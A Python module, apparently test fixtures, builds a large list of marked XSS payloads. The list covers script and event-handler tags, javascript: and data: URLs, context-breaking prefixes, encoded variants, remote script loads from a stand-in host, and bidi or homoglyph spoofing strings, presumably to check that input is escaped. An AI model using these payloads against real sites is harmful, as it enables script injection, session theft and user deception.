"""What would run as a script, or turn the line it stands in, where it is shown as it came.

Each payload has ``MARK`` in it: what it would do can be told from what the page does itself.
"""

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

MARK = "quixss"

_CALL = f"alert('{MARK}')"
_ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt src=//{MARK}.example/x.js></sCrIpT>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror={_CALL}'>",
    f"<iframe srcdoc=\"<script>{_CALL}</script>\"></iframe>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<object data=\"data:text/html,<script>{_CALL}</script>\"></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<a href=\"javascript:{_CALL}\">{MARK}</a>",
    f"<form action=javascript:{_CALL}><button>{MARK}</button></form>",
    f"<button formaction=javascript:{_CALL}>{MARK}</button>",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<body onload={_CALL}>",
    f"<base href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content=\"0;url=//{MARK}.example\">",
    f"<link rel=stylesheet href=//{MARK}.example/x.css>",
    f"<style>@import '//{MARK}.example/x.css';*{{display:none}}</style>",
    f"<template id=pending><b>{MARK}</b></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_CALL}>\"></noscript>",
    f"<xmp><p title=\"</xmp><img src=x onerror={_CALL}>\"></xmp>",
    f"<b id=thread name=ask class=notice data-added=1>{MARK}</b>",
    f"<portal src=//{MARK}.example>",
    f"<marquee onstart={_CALL}>{MARK}</marquee>",
    f"<dialog open>{MARK}</dialog>",
    f"<plaintext>{MARK}",
    f"<!--{MARK}--><![CDATA[<script>{_CALL}</script>]]>",
)  # fmt: skip
_BEFORE = (
    "", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</option></select>", "-->",
    "]]>", "</q></cite></bdi></p>", "{{7*7}}{% raw %}", "${7*7}#{7*7}", "\\", "%0d%0a", "&lt;",
)  # fmt: skip
_ATTRIBUTES = (
    f"\" onmouseover=\"{_CALL}", f"' onmouseover='{_CALL}", f"` onmouseover=`{_CALL}",
    f"\" autofocus onfocus={_CALL} x=\"", f"x onpointerover={_CALL} ", f"\" style=\"x:{MARK}",
    f"\" href=\"javascript:{_CALL}", f"\" srcdoc=\"{MARK}",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}", f" javascript:{_CALL}", f"java\tscript:{_CALL}",
    f"java\nscript:{_CALL}", f"\x01javascript:{_CALL}", f"javascript://x.example/%0a{_CALL}",
    f"data:text/html,<script>{_CALL}</script>", f"vbscript:msgbox('{MARK}')", f"blob:{MARK}",
    f"data:text/html;base64,PHNjcmlwdD4={MARK}", f"//{MARK}.example/x", f"\\\\{MARK}.example\\x",
    f"https://{MARK}.example/\" onmouseover=\"{_CALL}", f"https://{MARK}.example/'><script>",
    f"https://{MARK}.example/?a=<img src=x onerror={_CALL}>", f"https:javascript:{MARK}",
    f"file:///etc/{MARK}", f"feed:javascript:{MARK}", f"view-source:javascript:{MARK}",
    f"https://bank.example@{MARK}.example/", f"https://аррӏе.{MARK}.example/",
)  # fmt: skip
"""What stands in place of an address."""
TURNS = tuple(
    f"{before}{MARK}{after}"
    for before, after in (
        ("\u202e", ""), ("\u202d", "\u202c"), ("\u2067", ""), ("\u2066", "\u2069"), ("\u200f", ""),
        ("\u202ea\u2066", "\u2069b\u2066"), ("\u061c", "\u061c"),
        ("a\u2069\u2069\u202e", ""),
        ("\u05d0\u05d1", "\u05d2 12.3"), ("\u0627\u0644", "\u0629"), ("\u200b\u2060", "\ufeff"),
        ("Раураl ", ""), ("\U000e0041\U000e0042", ""), ("a" + "\u0301" * 40, ""),
        ("\x1b[2J", "\x07"),
        ("line\u2028", "\u2029"), ("\x00\x08", "\x7f"), ("\ufff9", "\ufffb"),
    )
)  # fmt: skip
"""What turns the direction of the line, hides, or looks like something else."""


def _scripts() -> Iterator[str]:
    for at, element in enumerate(_ELEMENTS):
        for before in (_BEFORE[0], *(_BEFORE[(at * 3 + n) % len(_BEFORE)] for n in range(1, 5))):
            yield before + element
    for encoded in (quote, _entities, _widened):
        yield from (encoded(element) for element in _ELEMENTS[:3])
    yield from (before + one for before, one in product(("", "x"), _ATTRIBUTES))


def _entities(text: str) -> str:
    return "".join(f"&#{ord(one)};" if not one.isalnum() else one for one in text)


def _widened(text: str) -> str:
    """In the letters of full width, which some normal forms make ASCII again."""
    return "".join(chr(ord(one) + 0xFEE0) if one in "<>'\"()" else one for one in text)


SCRIPTS = tuple(dict.fromkeys(_scripts()))
PAYLOADS = tuple(dict.fromkeys((*SCRIPTS, *ADDRESSES, *TURNS)))
"""All of them, more than two hundred."""
